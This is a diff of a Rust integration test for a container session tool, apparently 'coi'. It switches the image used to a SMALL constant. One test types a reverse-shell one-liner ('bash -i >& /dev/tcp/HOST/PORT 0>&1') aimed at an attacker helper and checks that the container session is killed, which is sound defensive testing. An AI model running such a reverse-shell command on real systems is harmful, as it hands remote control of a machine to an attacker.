@@ -1,7 +1,7 @@
 //! Sessions in a real terminal: attach, detach, and a watch that does not care which.
 
 use coi_tests::incus::{self, Foreign, exec};
-use coi_tests::{Attacker, Coi, DEFAULT, TINY, Terminal, Viewer, actions, end, eventually};
+use coi_tests::{Attacker, Coi, SMALL, TINY, Terminal, Viewer, actions, end, eventually};
 use serde_json::{Value, json};
 
 /// Types a command whose end cannot be mistaken for its echo.
@@ -59,14 +59,14 @@ fn killed_while_attached_and_ended_by_exit() {
     let coi = Coi::new();
     let name = coi.container();
     let terminal = Terminal::open(&coi);
-    enter(&terminal, "coi shell --tool bash", "over");
+    enter(&terminal, &format!("coi shell --tool bash --image {SMALL}"), "over");
     terminal.until("code@");
     terminal.enter("exit 0");
     terminal.until("over:0");
     assert_eq!(incus::instance(&name), None);
 
     let attacker = Attacker::on_bridge();
-    enter(&terminal, &format!("coi shell --tool bash --image {DEFAULT}"), "killed");
+    enter(&terminal, &format!("coi shell --tool bash --image {SMALL}"), "killed");
     terminal.until("code@");
     terminal.enter(&attacker.fill("bash -i >& /dev/tcp/HOST/PORT 0>&1"));
     let screen = terminal.until("killed:137");
